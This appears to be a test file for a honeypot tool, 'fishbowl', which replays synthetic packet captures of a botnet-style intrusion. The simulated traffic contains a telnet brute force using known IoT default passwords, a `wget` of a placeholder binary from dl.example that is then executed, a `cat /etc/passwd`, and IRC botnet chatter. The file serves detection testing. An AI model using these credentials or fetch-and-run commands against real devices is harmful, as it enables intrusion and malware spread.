# SPDX-License-Identifier: Apache-2.0
"""One intrusion from the first knock to the orders of a botnet, as `fishbowl replay` tells it: one incident, told of
twice; scanners are sources."""
import json
import os
import re
import subprocess

import mmdb
import packets as p
from fishbowl import BUILD, FISHBOWL, run

BOT, SERVER, IRC, SCANNER = '198.51.100.7', '203.0.113.80', '203.0.113.66', '198.51.100.9'
HONEYPOT = '192.0.2.10'
START = 10**18
SECOND = 10**9
PASSWORDS = (b'root', b'admin', b'12345', b'default', b'xc3511')
PROGRAM = b'\x7fELF' + bytes(range(256)) * 3


class Wire:
    def __init__(self):
        self.packets = []

    def add(self, second, packet):
        self.packets.append((START + int(second * SECOND), packet))

    def talk(self, second, client, server, sport, dport, steps, pause=0.01):
        """A whole TCP connection of what its two sides say; a number among the steps is a pause in seconds."""
        for one in p.talk(steps, sport, dport, (client, server)):
            if isinstance(one, bytes):
                self.add(second, one)
                second += pause
            else:
                second += one

    def answer_first(self):
        """As some captures have it: each SYN+ACK before the SYN that it answers."""
        for n, (second, packet) in enumerate(self.packets):
            if packet[33] == p.SYN | p.ACK:
                self.packets[n - 1], self.packets[n] = (self.packets[n - 1][0], packet), (second, self.packets[n - 1][1])

    def replay(self, tmp_path, *more):
        self.packets.sort(key=lambda one: one[0])
        capture = tmp_path / 'capture.pcap'
        capture.write_bytes(p.pcap('raw', self.packets))
        done = run('--home', '192.0.2.0/24', *more, '-o', tmp_path / 'out', capture)
        assert done.returncode == 0, done.stderr
        return [json.loads(line) for line in (tmp_path / 'out' / 'eve.json').read_text().splitlines()]


def telnet(commands, passwords=PASSWORDS):
    """Guesses, the last one right, and then what is typed: (line, pause before it)."""
    steps = [(1, b'\xff\xfd\x01\xff\xfb\x03'), (0, b'\xff\xfb\x01\xff\xfd\x03'), (1, b'\r\nbox login: ')]
    for password in passwords:
        steps += [(0, b'root\r\0'), (1, b'root\r\nPassword: '), (0, password + b'\r\0')]
        steps += [(1, b'\r\n~ # ') if password == passwords[-1] else (1, b'\r\nLogin incorrect\r\nbox login: ')]
    for line, pause in commands:
        steps += [pause, (0, line + b'\r\0'), (1, line + b'\r\nok\r\n~ # ')]
    return steps


def http():
    head = b'HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n' % len(PROGRAM)
    return [(0, b'GET /bot.arm HTTP/1.0\r\nHost: dl.example\r\n\r\n'), (1, head + PROGRAM)]


def irc():
    steps = [(0, b'NICK bot17\r\nUSER b b b :b\r\n'), (1, b':s.example 001 bot17 :Hello\r\n'), (0, b'JOIN #owned\r\n'),
             (1, b':bot17!b@h JOIN :#owned\r\n')]
    for _ in range(8):
        steps += [20, (0, b'PRIVMSG #owned :[SCAN]: exploited 192.0.2.99\r\n')]
    return steps


def intrusion(commands):
    wire = Wire()
    for n in range(8):
        wire.add(n, p.tcp(SCANNER, f'192.0.2.{20 + n}', 50000, 23, p.SYN, seq=1))
    wire.talk(60, BOT, HONEYPOT, 40000, 23, telnet(commands))
    wire.talk(90, HONEYPOT, SERVER, 41000, 80, http())
    wire.talk(120, HONEYPOT, IRC, 41001, 6667, irc())
    return wire


def of(records, kind):
    return [r for r in records if r['event_type'] == kind]


def test_bot(tmp_path):
    records = intrusion([(b'enable', 0), (b'cd /tmp', 0), (b'wget http://dl.example/bot.arm', 0), (b'./bot.arm', 0)]
                        ).replay(tmp_path)
    told = of(records, 'incident')
    stages = [r['incident']['stage'] for r in told]
    assert stages[0] == 'opened' and stages[-1] == 'closed'
    assert stages.count('opened') == stages.count('raised') == stages.count('closed') == 1
    assert 2 <= stages.count('grew') <= 4  # once a minute
    assert len({r['incident']['id'] for r in told}) == 1
    assert told[0]['fishbowl']['title'] == f'{HONEYPOT}: {BOT} got in (login)'
    last = told[-1]['incident']
    assert (last['class'], last['actor'], last['severity']) == ('bot', 'automated', 'high')
    assert last['remotes'] == [{'ip': BOT, 'why': 'got in'}]
    assert (last['logins'], last['logins_good'], last['typed']) == (5, 1, 4)
    texts = [s['text'] for s in last['story']]
    for expected in (f"{BOT} logged in over telnet as 'root'", 'typed: ./bot.arm, new', f'began to speak to {SERVER}:80/TCP',
                     'asked for GET http://dl.example/bot.arm', 'bot17 in #owned: [SCAN]: exploited 192.0.2.99'):
        assert expected in texts
    file, = (r for r in of(records, 'fileinfo'))
    assert file['fishbowl']['new'] is True
    assert any(file['fileinfo']['sha256'] in text and text.startswith('fetched') for text in texts)
    assert [s['time'] for s in last['story']] == sorted(s['time'] for s in last['story'])
    by_flow = {r['flow_id']: r for r in of(records, 'flow')}
    assert all(s['flow_id'] in by_flow for s in last['story'])
    assert all(1 <= s['packet'] for s in last['story'])
    # The good one is a word of the telnet records; here it is not.
    assert not any(re.search('xc3511|12345', json.dumps(r)) for r in told)


def test_human(tmp_path):
    commands = [(b'w', 2.3), (b'ls -la', 6.1), (b'cat /etc/passwd', 3.2), (b'uname -a', 11), (b'ps ax', 4), (b'exit', 7.5)]
    wire = Wire()
    wire.talk(0, BOT, HONEYPOT, 40000, 23, telnet(commands, PASSWORDS[-2:]))
    last = of(wire.replay(tmp_path), 'incident')[-1]['incident']
    assert (last['class'], last['actor'], last['severity']) == ('shell', 'human', 'medium')


def test_scanner(tmp_path):
    source, = of(intrusion([]).replay(tmp_path), 'source')
    assert source['src_ip'] == SCANNER
    assert source['source']['class'] == 'scan' and source['source']['actor'] == 'automated'
    assert source['source']['flows'] == 8
    assert source['source']['why'] == 'knocks where nobody answers; goes to several honeypots'


def test_answer_first(tmp_path):
    """Who began is who was answered, whichever was captured first."""
    def told(records):
        return ({(r['fishbowl']['direction'], r['src_ip'], r['src_port'], r['dest_ip'], r['dest_port'], r['flow']['pkts_toserver'],
                  r['flow']['state']) for r in of(records, 'flow')},
                [(r['incident']['stage'], r['incident']['class'], r['incident']['remotes'],
                  {s['text'] for s in r['incident']['story']}) for r in of(records, 'incident')])

    wire = intrusion([(b'id', 1)])
    expected = told(wire.replay(tmp_path))
    wire.answer_first()
    assert told(wire.replay(tmp_path)) == expected


def places(tmp_path):
    """Databases that know the intruder and the scanner: arguments of replay."""
    country, system = tmp_path / 'country.mmdb', tmp_path / 'as.mmdb'
    country.write_bytes(mmdb.make({'198.51.100.0/24': {'country_code': 'NL'}, '192.0.2.0/24': {'country_code': 'DE'}}))
    system.write_bytes(mmdb.make({f'{BOT}/32': {'autonomous_system_number': 64500,
                                                'autonomous_system_organization': 'Example \x1b AS'}}))
    return '--geo', country, '--geo', system


def kept(tmp_path, records):
    """A state directory in which the gateway would have kept them."""
    days = tmp_path / 'state' / 'db'
    days.mkdir(parents=True)
    subprocess.run([os.path.join(BUILD, 'tests', 'unit', 'make_days'), days], check=True, text=True,
                   input=''.join(json.dumps(r) + '\n' for r in records))
    return tmp_path / 'state'


def incidents(state, *args):
    done = subprocess.run([FISHBOWL, 'incidents', '--state-dir', state, *args], capture_output=True, text=True, check=True)
    return done.stdout.splitlines()


def test_places(tmp_path):
    """Who got in is somewhere, as records about him have said; so is who did not."""
    records = intrusion([(b'id', 1)]).replay(tmp_path, *places(tmp_path))
    place = {'country': 'NL', 'as_number': 64500, 'as_name': 'Example \x1b AS'}
    for told in of(records, 'incident'):
        assert told['geo'] == place
        assert told['incident']['remotes'] == [{'ip': BOT, 'why': 'got in', **place}]
    assert [r['geo'] for r in of(records, 'source')] == [{'country': 'NL'}]
    logins = {r['app_proto']: r['geo'] for r in of(records, 'login')}
    assert logins == {'telnet': {**place, 'ip': BOT}, 'irc': {'country': 'DE', 'ip': HONEYPOT}}


def test_verb(tmp_path):
    """fishbowl incidents: each in a line, one with its story, the last record as JSON."""
    records = intrusion([(b'id', 1)]).replay(tmp_path, *places(tmp_path))
    last = of(records, 'incident')[-1]
    number, where = last['incident']['id'], '(NL, AS64500 Example \\x1b AS)'
    state = kept(tmp_path, records)
    line, = incidents(state)
    assert line == (f'2001-09-09 01:47:40  {number}  closed  high      {last["incident"]["class"]:11}  '
                    f'{last["fishbowl"]["title"]} {where}')
    assert incidents(state, '--open') == []
    assert [json.loads(one) for one in incidents(state, '--json')] == [last]
    story = incidents(state, number)
    assert story[0] == line and f'  {BOT} {where}: got in' in story
    assert any('typed: id' in sentence for sentence in story)
    assert len(story) == 4 + len(last['incident']['story'])


def test_verb_without_places(tmp_path):
    line, = incidents(kept(tmp_path, intrusion([]).replay(tmp_path)))
    assert line.endswith('it is over')


def test_same_again(tmp_path):
    """The same packets give the same records, numbers of incidents included."""
    first = intrusion([(b'id', 1)]).replay(tmp_path)
    assert intrusion([(b'id', 1)]).replay(tmp_path) == first
